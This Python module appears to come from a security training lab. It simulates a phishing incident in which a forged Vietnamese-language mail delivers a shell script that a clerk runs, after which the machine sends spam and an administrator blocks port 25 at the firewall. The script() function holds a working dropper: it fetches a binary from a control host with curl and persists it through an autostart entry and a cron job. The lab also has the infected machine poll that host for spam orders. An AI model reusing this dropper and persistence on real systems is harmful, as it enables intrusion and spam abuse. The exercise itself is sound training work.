"""The second incident, harmless in effect: a forged mail with a script attached; the clerk opens it; it fetches a
program, stays, asks a control address for orders, and sends mails by the hundred until the administrator blocks it."""

from __future__ import annotations

from lab import cast
from lab.build import LAB
from lab.network import ADDRESSES, PUBLIC
from lab.outside import CONTROL_LOG
from lab.play.stage import Hands, Stage
from lab.truth import now

MACHINE = "pc-2"
PERSON = cast.CLERK
HOME = f"/home/{PERSON.login}"
SAVED = f"{HOME}/Tai-ve/{cast.ATTACHMENT}"
FOLDER = f"{HOME}/.cache/dich-vu-in"
PROGRAM = f"{FOLDER}/dich-vu-in"
AUTOSTART = f"{HOME}/.config/autostart/dich-vu-in.desktop"
CRONTAB = f"/var/spool/cron/crontabs/{PERSON.login}"
MESSAGE = f"20261118.4471@{cast.FORGED_DOMAIN}"
RECIPIENTS = [f"bientap@{cast.DOMAIN}", f"van.thu.cu@{cast.DOMAIN}", f"vanthu@{cast.DOMAIN}"]
BLOCK = (
    f'insert rule ip office through ip saddr {ADDRESSES[MACHINE]} tcp dport 25 log prefix "FW-SPAM-DROP " group 1 drop'
)


def play(stage: Stage) -> None:
    """The whole incident, once. It needs about twelve minutes, five when the play is short."""
    chance, hands = stage.chance("forger"), stage.hands("outside")
    short = stage.minutes < 20
    put_at_control(stage)
    need(stage, stage.minutes * 60 * (0.1 if short else 0.4))
    forge(stage, hands)
    open_attachment(stage, chance.uniform(5, 8) if short else chance.uniform(20, 45))
    until_first_beat(stage)
    need(stage, 5 if short else chance.uniform(70, 110))
    order(stage, 80 if short else 900)
    need(stage, 25 if short else chance.uniform(230, 290))
    complain(stage, hands)
    need(stage, 5 if short else chance.uniform(40, 80))
    block(stage)
    need(stage, 20 if short else chance.uniform(150, 240))
    told(stage)


def need(stage: Stage, seconds: float) -> None:
    """Wait. Raises RuntimeError when the play ends before."""
    if not stage.wait(seconds):
        raise RuntimeError("The play was too short for the incident.")


def step(stage: Stage, at: str, what: str, host: str = MACHINE, **facts: object) -> None:
    """One step of the chain, and of the symptoms' ground."""
    stage.truth.add("chain", time=at, what=what, host=host, **facts)


def script() -> str:
    """What is attached: fetches the program, lets it start at every logon and every two minutes, starts it."""
    return f"""#!/bin/sh
d={FOLDER}
mkdir -p $d {HOME}/.config/autostart
curl -s -A 'Mozilla/4.0 (compatible)' -o $d/dich-vu-in http://{cast.CONTROL_NAME}/tai/goi.bin
chmod 755 $d/dich-vu-in
printf '[Desktop Entry]\\nType=Application\\nName=In\\nExec=%s\\n' $d/dich-vu-in > {AUTOSTART}
( crontab -l 2>/dev/null; echo "*/2 * * * * $d/dich-vu-in" ) | crontab -
setsid $d/dich-vu-in >/dev/null 2>&1 </dev/null &
"""


def put_at_control(stage: Stage) -> None:
    """What the control address gives away: the program, the list, the mail's text, and at first no order."""
    outside = stage.nodes["outside"]
    program = (LAB / "inside/service.py").read_text().replace("@CONTROL@", cast.CONTROL_NAME)
    outside.write("/srv/dieu-khien/tai/goi.bin", program)
    outside.write("/srv/dieu-khien/ds.txt", "\n".join(cast.SPAMMED) + "\n")
    text = "From: cskh@ngan-hang-so.example\nTo: {to}\nSubject: Khuyen mai {number}\n\nThu mau cua phong thu nghiem.\n"
    outside.write("/srv/dieu-khien/thu.txt", text)
    outside.write("/srv/dieu-khien/lenh.txt", "cho\n")


def forge(stage: Stage, hands: Hands) -> None:
    """One mail to three people of the office, one of whom is no longer there."""
    at = now()
    answer = hands.do(
        "mail",
        server=PUBLIC,
        source=cast.FORGER,
        helo=f"mail.{cast.FORGED_DOMAIN}",
        id=f"<{MESSAGE}>",
        subject="Công văn khẩn số 118: rà soát danh sách cán bộ",
        name=cast.FORGED_NAME,
        text="Kính gửi Văn thư,\nĐề nghị mở tệp đính kèm và trả lời trong ngày.\n",
        attachments={cast.ATTACHMENT: script()},
        **{"from": cast.FORGED_SENDER, "to": RECIPIENTS},
    )
    if not answer.get("sent"):
        raise RuntimeError(f"The forged mail was not taken: {answer}")
    stage.truth.note(
        entry={
            "mail": MESSAGE,
            "ip": cast.FORGER,
            "sender": cast.FORGED_SENDER,
            "name": cast.FORGED_NAME,
            "attachment": cast.ATTACHMENT,
            "time": at,
            "host": "mail1",
            "user": PERSON.login,
        }
    )
    step(stage, at, "forged-mail-received", "mail1", mail=MESSAGE, ip=cast.FORGER, sender=cast.FORGED_SENDER)
    stage.truth.add("symptoms", time=at, kind="mail", value=MESSAGE, host="mail1")


def open_attachment(stage: Stage, hesitates: float) -> None:
    """The clerk's mail program has saved the attachment; the clerk opens it from the folder, as a desktop would."""
    node, hands = stage.nodes[MACHINE], stage.hands(MACHINE, PERSON)
    while not node.has(SAVED):
        need(stage, 1)
    step(stage, now(), "attachment-saved", file=SAVED, user=PERSON.login, mail=MESSAGE)
    need(stage, hesitates)
    at = now()
    hands.do("run", commands=[f"chmod +x {SAVED} && {SAVED}"])
    stage.truth.note_in("entry", opened=at)
    step(stage, at, "attachment-run", file=SAVED, user=PERSON.login)
    if not node.has(PROGRAM) or not node.has(AUTOSTART):
        raise RuntimeError("The attached script did not do its work.")
    url = f"http://{cast.CONTROL_NAME}/tai/goi.bin"
    step(stage, at, "fetched", command="curl", url=url, file=PROGRAM, ip=cast.CONTROL)
    step(stage, at, "autostart-added", file=AUTOSTART, user=PERSON.login)
    step(stage, at, "cron-job-added", file=CRONTAB, user=PERSON.login, command="crontab")
    for path in (PROGRAM, AUTOSTART, CRONTAB):
        stage.truth.add("impact", time=at, kind="file", value=path, host=MACHINE)
    stage.truth.add("symptoms", time=at, kind="file", value=SAVED, host=MACHINE)
    stage.truth.add("symptoms", time=at, kind="file", value=PROGRAM, host=MACHINE)


def until_first_beat(stage: Stage) -> None:
    """The control address has been asked for orders."""
    while not beats(stage):
        need(stage, 0.5)
    at = now()
    step(stage, at, "control-contacted", ip=cast.CONTROL, domain=cast.CONTROL_NAME, file=PROGRAM)
    stage.truth.add("symptoms", time=at, kind="ip", value=cast.CONTROL, host=MACHINE)
    stage.truth.add("symptoms", time=at, kind="domain", value=cast.CONTROL_NAME, host=MACHINE)


def beats(stage: Stage) -> int:
    """How often the control address was asked for orders."""
    return stage.nodes["outside"].read(CONTROL_LOG).count("/nhip?")


def order(stage: Stage, mails: int) -> None:
    """The control address orders mails; the next beat fetches the order."""
    stage.nodes["outside"].write("/srv/dieu-khien/lenh.txt", f"gui dot-1 {mails}\n")
    while not spammed(stage):
        need(stage, 0.5)
    at = now()
    step(stage, at, "spam-begins", file=PROGRAM, port=25)
    stage.truth.add("symptoms", time=at, kind="host", value=MACHINE, host=MACHINE)


def spammed(stage: Stage) -> int:
    """How many connections the mail sinks got."""
    listed = stage.nodes["outside"].run("nft", "list", "chain", "ip", "outside", "catch").split()
    return int(listed[listed.index("packets") + 1])


def complain(stage: Stage, hands: Hands) -> None:
    """Somebody outside tells the administrator."""
    at = now()
    message = "8812.5@example.org"
    hands.do(
        "mail",
        server=PUBLIC,
        source=cast.VISITORS[3],
        helo="mail.example.org",
        id=f"<{message}>",
        subject=f"Cảnh báo: máy ở địa chỉ {PUBLIC} đang gửi thư rác",
        text=f"Máy chủ của chúng tôi nhận hàng trăm thư rác từ {PUBLIC}.\n",
        **{"from": "abuse@example.org", "to": [f"postmaster@{cast.DOMAIN}"]},
    )
    step(stage, at, "complaint-received", "mail1", mail=message)


def block(stage: Stage) -> None:
    """The administrator closes port 25 for the machine at the firewall."""
    person = cast.ADMIN
    terminal = stage.terminal("pc-admin", f"{person.login}@fw", "", person)
    terminal.sudo("ss -tn", person.password)
    at = now()
    terminal.sudo(f"nft '{BLOCK}'", person.password)
    terminal.leave()
    if "FW-SPAM-DROP" not in stage.nodes["fw"].run("nft", "list", "table", "ip", "office"):
        raise RuntimeError(f"The block did not take: {terminal.seen[-500:]}")
    mails = spammed(stage)
    step(stage, at, "blocked-by-administrator", "fw", user=person.login, mails=mails)
    why = "the administrator blocked the machine's mails at the firewall"
    stage.truth.add("ordinary", time=at, kind="user", value=person.login, host="fw", why=why)
    stage.truth.add("impact", time=at, kind="spam", value=ADDRESSES[MACHINE], host=MACHINE, mails=mails)


def told(stage: Stage) -> None:
    """What the outside counted in the end."""
    if spammed(stage) < 20:
        raise RuntimeError("Too few mails went out; the play is wrong.")
    stage.truth.note(control={"ip": cast.CONTROL, "domain": cast.CONTROL_NAME, "asked": beats(stage), "until": now()})
